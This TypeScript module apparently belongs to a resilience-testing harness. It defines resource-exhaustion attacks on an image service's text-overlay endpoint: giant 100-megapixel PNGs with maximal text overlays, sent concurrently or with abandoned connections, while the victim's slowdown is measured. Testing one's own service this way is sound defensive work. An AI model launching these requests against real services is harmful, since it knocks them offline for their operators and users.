import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, type AnyRequest, keyOf, sendTogether, type Target } from './attack.ts';
import { makeForm } from './form.ts';
import { makePng } from './pictures/png.ts';

const texts = 20;
const leavesAfterMs = 300;
/** Time for the slots to become free and for the victim to send a few requests. */
const watchedAfterwardsMs = 10_000;

/** Small files of 100 megapixels, with texts that cover them many times over. */
export const largeTexts: readonly Attack[] = [
  together('R1-one', 1),
  together('R1-two', 2),
  together('R1-six', 6),
  together('R6-sixty', 60),
  {
    name: 'away-sixty',
    sends: `the same 60 times, connections closed after ${leavesAfterMs} ms`,
    prepare: async () => {
      const call = await makeLargeRequest();
      return { run: (target) => sendAndLeave(target, call) };
    },
  },
];

function together(name: string, count: number): Attack {
  return {
    name,
    sends: `${count} x 10,000 x 10,000 PNG with ${texts} texts`,
    prepare: async () => {
      const call = await makeLargeRequest();
      return { run: (target) => sendTogether(target, call, count) };
    },
  };
}

async function makeLargeRequest(): Promise<AnyRequest> {
  const picture = await makePng({ width: 10_000, height: 10_000, colourType: 'rgb', bitDepth: 8 });
  return overlayRequest(picture);
}

/** Returns a request that draws as many and as large texts as are allowed. */
export function overlayRequest(picture: Buffer): AnyRequest {
  const overlay = {
    text: 'WWWW '.repeat(200),
    font_size: 300,
    outline_width: 20,
    max_width: 10_000,
    x: 5_000,
    y: 5_000,
  };
  const overlays = JSON.stringify(Array.from({ length: texts }, () => overlay));
  return {
    path: '/api/text_overlay',
    ...makeForm({ overlays }, { field: 'image', name: 'large.png', bytes: picture }),
  };
}

async function sendAndLeave(target: Target, call: AnyRequest): Promise<void> {
  const key = keyOf(target);
  const calls = Array.from({ length: 60 }, () => {
    const opened = target.open({ ...call, key }, call.body.byteLength);
    opened.outgoing.end(call.body);
    return opened;
  });
  await delay(leavesAfterMs);
  for (const opened of calls) opened.leave('left');
  const picture = await makePng({ width: 300, height: 200, colourType: 'rgb', bitDepth: 8 });
  const form = makeForm({ padding_size: '50' }, { field: 'image', name: 'picture.png', bytes: picture });
  const { status, tookMs } = await target.send({ path: '/api/image_padding', key, ...form });
  target.note(`the attacker's next padding: ${status} after ${Math.round(tookMs)} ms`);
  if (!target.signal.aborted) await delay(watchedAfterwardsMs);
}
